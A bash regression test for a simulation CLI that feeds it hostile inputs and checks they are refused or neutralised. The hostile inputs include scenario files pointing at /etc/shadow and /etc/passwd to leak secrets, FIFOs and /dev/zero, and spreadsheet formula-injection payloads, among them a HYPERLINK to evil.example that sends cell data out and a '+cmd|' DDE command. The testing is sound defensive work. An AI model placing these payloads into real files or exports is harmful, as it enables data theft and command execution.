#!/usr/bin/env bash
# tests/test_hostile.sh -- hostile or absurd input (issue 13, defects 4, 5, 6,
# 9 and 10; docs/scenario.md "Files named by a scenario" and "Plausible
# ranges"):
#   D2  extends: /etc/shadow, a shadow-like file named .yaml, and data-file
#       keys naming such files print no line (nor field) of them;
#   D9  a FIFO named by extends: or by a data-file key is refused at once
#       (check returns within a second, exit 2), as is a device;
#   D3  an admission rate of 1e15 is refused by check (exit 2, the range);
#       a valid scenario whose Poisson mean grows past 4.9e9 (rate 50,
#       utilization trend +50%/year, 60 years) finishes;
#   D8  population 1e300 and cost cv 1e155 are refused by check (exit 2);
#   D10 a scenario name "=HYPERLINK(...)" reaches summary.csv, groups.csv and
#       diff.csv neutralised (a leading '), numbers untouched;
#   D11 --seed 18446744073709551615 reads back exactly from run.json's and
#       summary.json's seed_text (python3's json, and as a double it would not);
#   D12 --reps 1: se and sd empty in summary.csv and groups.csv, null in
#       summary.json; mean and percentiles still there.
# Each of these fails on the code before issue 13 (docs: /work/notes/inputs.md).
# Usage (from anywhere): bash tests/test_hostile.sh path/to/fundsim
set -u
FUNDSIM=${1:?usage: test_hostile.sh path/to/fundsim}
FUNDSIM=$(cd "$(dirname "$FUNDSIM")" && pwd)/$(basename "$FUNDSIM")
cd "$(dirname "$0")/.."
ROOT=$PWD

TMP=$(mktemp -d "${TMPDIR:-/tmp}/fundsim_hostile.XXXXXX")
trap 'rm -rf "$TMP"' EXIT
fails=0
fail() { echo "FAIL: $*"; fails=$((fails + 1)); }

# A fast base scenario: tests/cli/small.yaml with 200 residents.
sed 's/total: 20000/total: 200/' tests/cli/small.yaml >"$TMP/tiny.yaml"

# check FILE -> $TMP/out (stdout+stderr), $rc
check() { timeout 20 "$FUNDSIM" check "$1" >"$TMP/out" 2>&1; rc=$?; }
# variant NAME YAML: $TMP/NAME.yaml extends tiny.yaml with YAML (the keys to change)
variant() { printf 'extends: tiny.yaml\n%s\n' "$2" >"$TMP/$1.yaml"; }
# a data-file key's YAML: population.roster -> "population:\n  roster: VALUE"
data_key() {
    case $1 in
    population.mortality.table) printf 'population:\n  mortality:\n    table: %s' "$2" ;;
    *) printf 'population:\n  %s: %s' "${1#population.}" "$2" ;;
    esac
}

# No line of file $1 (nor its first field, when longer than 3 bytes) in $TMP/out.
no_line_of() {
    local line field
    while IFS= read -r line; do
        [ -n "$line" ] || continue
        if grep -qF -- "$line" "$TMP/out"; then
            fail "$2: a line of $1 is printed"
            return
        fi
        field=${line%%:*}
        if [ ${#field} -gt 3 ] && grep -qwF -- "$field" "$TMP/out"; then
            fail "$2: a field of $1 ('${field:0:3}...') is printed"
            return
        fi
    done <"$1"
}

# ---- D2: file disclosure --------------------------------------------------
printf 'root:*:20228:0:99999:7:::\nsk-live-SECRET-daemon:*:20228:0:99999:7:::\n' >"$TMP/shadow.yaml"
printf 'extends: shadow.yaml\n' >"$TMP/leak.yaml"
check "$TMP/leak.yaml"
[ "$rc" -eq 2 ] || fail "extends: a shadow-like .yaml: exit $rc, expected 2"
grep -q "shadow.yaml:1:1: not a fundsim scenario" "$TMP/out" ||
    fail "extends: a shadow-like .yaml: no 'not a fundsim scenario': $(cat "$TMP/out")"
no_line_of "$TMP/shadow.yaml" "extends: a shadow-like .yaml"
for victim in /etc/shadow /etc/passwd /proc/self/status; do
    [ -r "$victim" ] || continue
    printf 'extends: %s\n' "$victim" >"$TMP/leak.yaml"
    check "$TMP/leak.yaml"
    [ "$rc" -eq 2 ] || fail "extends: $victim: exit $rc, expected 2"
    no_line_of "$victim" "extends: $victim"
    # the same file through a .yaml symlink: parsed, refused whole
    ln -sf "$victim" "$TMP/victim.yaml"
    printf 'extends: victim.yaml\n' >"$TMP/leak.yaml"
    check "$TMP/leak.yaml"
    [ "$rc" -eq 2 ] || fail "extends: a .yaml link to $victim: exit $rc, expected 2"
    no_line_of "$victim" "extends: a .yaml link to $victim"
    # and as every data-file key
    for key in "population.structure" "population.table" "population.mortality.table" \
               "population.roster"; do
        variant data "$(data_key "$key" "$victim")"
        check "$TMP/data.yaml"
        [ "$rc" -eq 2 ] || fail "$key: $victim: exit $rc, expected 2"
        no_line_of "$victim" "$key: $victim"
    done
done
printf '# a comment\nsk-live-SECRET,x,y\n' >"$TMP/secret.csv"
variant data "$(data_key population.structure secret.csv)"
check "$TMP/data.yaml"
grep -q "secret.csv:2:1: population.structure: expected the header age,male,female" "$TMP/out" ||
    fail "a data CSV with a comment first: $(cat "$TMP/out")"
grep -q "SECRET" "$TMP/out" && fail "a data CSV's first field is printed: $(cat "$TMP/out")"

# ---- D9: FIFOs and devices ------------------------------------------------
mkfifo "$TMP/fifo.yaml" "$TMP/fifo.csv"
printf 'extends: fifo.yaml\n' >"$TMP/f.yaml"
t0=$(date +%s%N)
timeout 20 "$FUNDSIM" check "$TMP/f.yaml" >"$TMP/out" 2>&1
rc=$?
ms=$((($(date +%s%N) - t0) / 1000000))
echo "test_hostile: check with a FIFO in extends: returned in $ms ms (exit $rc; bound 1000 ms)"
[ "$rc" -eq 2 ] || fail "extends: a FIFO: exit $rc, expected 2 (124: blocked)"
[ "$ms" -lt 1000 ] || fail "extends: a FIFO: $ms ms, expected under a second"
grep -q "f.yaml:1:10: extends: cannot read .*fifo.yaml': not a regular file" "$TMP/out" ||
    fail "extends: a FIFO: $(cat "$TMP/out")"
variant data "$(data_key population.structure fifo.csv)"
check "$TMP/data.yaml"
[ "$rc" -eq 2 ] || fail "population.structure: a FIFO: exit $rc, expected 2 (124: blocked)"
grep -q "population.structure: cannot read .*fifo.csv': not a regular file" "$TMP/out" ||
    fail "population.structure: a FIFO: $(cat "$TMP/out")"
timeout 20 "$FUNDSIM" check "$TMP/fifo.yaml" >"$TMP/out" 2>&1
rc=$?
[ "$rc" -eq 2 ] || fail "check a FIFO: exit $rc, expected 2 (124: blocked)"
ln -sf /dev/zero "$TMP/zero.yaml"
printf 'extends: zero.yaml\n' >"$TMP/z.yaml"
timeout 20 "$FUNDSIM" check "$TMP/z.yaml" >"$TMP/out" 2>&1
rc=$?
[ "$rc" -eq 2 ] && grep -q "not a regular file" "$TMP/out" ||
    fail "extends: /dev/zero: exit $rc: $(cat "$TMP/out")"
printf 'extends: /etc/passwd\n' >"$TMP/p.yaml"
check "$TMP/p.yaml"
grep -q "p.yaml:1:10: extends: expected the name of a scenario file ending in .yaml or .yml" \
    "$TMP/out" || fail "extends: a file not named .yaml: $(cat "$TMP/out")"

# ---- D3, D8: ranges, and a sampler that cannot loop ------------------------
range_refused() { # NAME YAML: check refuses with the range, exit 2
    local name=$1
    variant range "$2"
    check "$TMP/range.yaml"
    [ "$rc" -eq 2 ] || fail "$name: check exit $rc, expected 2: $(head -2 "$TMP/out")"
    grep -q "is outside the plausible range" "$TMP/out" || fail "$name: $(head -2 "$TMP/out")"
}
range_refused "admission rate 1e15" $'benefits:\n  inpatient:\n    admission_rate: 1e15'
range_refused "population 1e300" $'population:\n  total: 1e300\nsimulation:\n  mode: auto'
range_refused "cost cv 1e155" "$(printf 'benefits:\n  inpatient:\n    levels:\n      - %s' \
    '{name: x, share: 1, cost: {dist: lognormal, mean: 6000, cv: 1e155}, ratio: 0.7}')"
range_refused "initial balance -1e300" $'fund:\n  initial_balance: -1e300'
cat >"$TMP/grow.yaml" <<'EOF'
extends: tiny.yaml
benefits:
  inpatient:
    admission_rate: 50
costs:
  utilization: {trend: 0.5, shock_sd: 0}
EOF
t0=$(date +%s%N)
timeout 120 "$FUNDSIM" run "$TMP/grow.yaml" --reps 1 --years 60 --quiet --out "$TMP/grow" \
    >"$TMP/out" 2>&1
rc=$?
ms=$((($(date +%s%N) - t0) / 1000000))
echo "test_hostile: a Poisson mean past 4.9e9 (rate 50, trend +50%/year, 60 years): exit $rc in $ms ms"
[ "$rc" -eq 0 ] || fail "a Poisson mean past 4.9e9: exit $rc (124: the sampler loops): $(head -2 "$TMP/out")"

# ---- D10: formula injection -------------------------------------------------
NAME='=HYPERLINK("http://evil.example/?"&A1,"click")'
cat >"$TMP/inj.yaml" <<'EOF'
extends: tiny.yaml
scenario:
  name: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
groups:
  - {name: "+cmd|' /C calc'!A0", id: "-x", share: 0.1, subsidy: {type: full}}
tiers:
  - {name: "@SUM(1+1)", contribution: {2023: 350, growth: 30/year}}
EOF
if ! "$FUNDSIM" run "$TMP/inj.yaml" --reps 3 --years 2 --quiet --out "$TMP/inj" >"$TMP/out" 2>&1; then
    fail "run inj.yaml: $(head -3 "$TMP/out")"
fi
if ! "$FUNDSIM" compare "$TMP/inj.yaml" --set financing.fiscal_subsidy=300 --reps 3 --years 2 \
    --quiet --out "$TMP/cmp" >"$TMP/out" 2>&1; then
    fail "compare inj.yaml: $(head -3 "$TMP/out")"
fi
python3 - "$TMP" "$NAME" <<'EOF' || fails=$((fails + 1))
import csv, sys
tmp, name = sys.argv[1], sys.argv[2]
bad = []
def rows(p):
    with open(p, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))
def formula(v):
    return v[:1] in ("=", "+", "-", "@", "\t", "\r") and not _num(v)
def _num(v):
    try:
        float(v)
        return True
    except ValueError:
        return False
checked = 0
for p in ("inj/summary.csv", "inj/groups.csv", "cmp/diff.csv", "cmp/base/summary.csv"):
    rs = rows(tmp + "/" + p)
    for r in rs:
        for k, v in r.items():
            checked += 1
            if formula(v):
                bad.append("%s: column %s starts a formula: %r" % (p, k, v[:30]))
                break
    first = rs[0]
    col = "base" if p.endswith("diff.csv") else "scenario"
    if first[col] != "'" + name:
        bad.append("%s: %s is %r, expected %r" % (p, col, first[col], "'" + name))
    if not any(_num(r["mean"]) and float(r["mean"]) < 0 for r in rs) and "diff" in p:
        bad.append("%s: no negative mean kept as a number" % p)
g = rows(tmp + "/inj/groups.csv")
if not any(r["group"] == "'+cmd|' /C calc'!A0" for r in g) or \
   not any(r["tier"] == "'@SUM(1+1)" for r in g) or not any(r["group_id"] == "'-x" for r in g):
    bad.append("groups.csv: group, group_id or tier names not neutralised")
for b in bad[:5]:
    print("FAIL:", b)
print("test_hostile: %d CSV fields checked for formulas" % checked)
sys.exit(1 if bad else 0)
EOF

# ---- D11: seeds above 2^53 --------------------------------------------------
SEED=18446744073709551615
if "$FUNDSIM" run "$TMP/tiny.yaml" --reps 2 --years 1 --seed $SEED --format csv,json --quiet \
    --out "$TMP/seed" >"$TMP/out" 2>&1; then
    python3 - "$TMP/seed" $SEED <<'EOF' || fails=$((fails + 1))
import json, sys
d, seed = sys.argv[1], int(sys.argv[2])
bad = []
run = json.load(open(d + "/run.json"))
summ = json.load(open(d + "/summary.json"))
for what, doc in (("run.json", run), ("summary.json provenance", summ["provenance"])):
    if int(doc.get("seed_text", "-1")) != seed:
        bad.append("%s: seed_text %r, expected %d" % (what, doc.get("seed_text"), seed))
# What a reader holding numbers as doubles (jq 1.6, JavaScript) sees of "seed":
if int(float(run["seed"])) == seed:
    bad.append("the seed as a double reads back exactly: the test proves nothing")
for b in bad:
    print("FAIL:", b)
sys.exit(1 if bad else 0)
EOF
else
    fail "run --seed $SEED: $(head -3 "$TMP/out")"
fi

# ---- D12: --reps 1 ----------------------------------------------------------
if "$FUNDSIM" run "$TMP/tiny.yaml" --reps 1 --years 2 --format csv,json --quiet \
    --out "$TMP/one" >"$TMP/out" 2>&1; then
    python3 - "$TMP/one" <<'EOF' || fails=$((fails + 1))
import csv, json, sys
d = sys.argv[1]
bad = []
for p in ("summary.csv", "groups.csv"):
    with open(d + "/" + p, encoding="utf-8", newline="") as f:
        rs = list(csv.DictReader(f))
    for r in rs:
        if r["se"] != "" or r["sd"] != "":
            bad.append("%s: se %r, sd %r with one replication (expected empty)" % (p, r["se"], r["sd"]))
            break
    if not any(r["mean"] != "" and r["p50"] != "" for r in rs):
        bad.append("%s: no mean or median" % p)
doc = json.load(open(d + "/summary.json"))
for y in doc["years"]:
    for m, v in y["values"].items():
        if v["se"] is not None or v["sd"] is not None:
            bad.append("summary.json %s %s: se %r sd %r" % (y["year"], m, v["se"], v["sd"]))
            break
for b in bad[:5]:
    print("FAIL:", b)
sys.exit(1 if bad else 0)
EOF
else
    fail "run --reps 1: $(head -3 "$TMP/out")"
fi

echo "test_hostile: $fails failures"
[ "$fails" -eq 0 ]
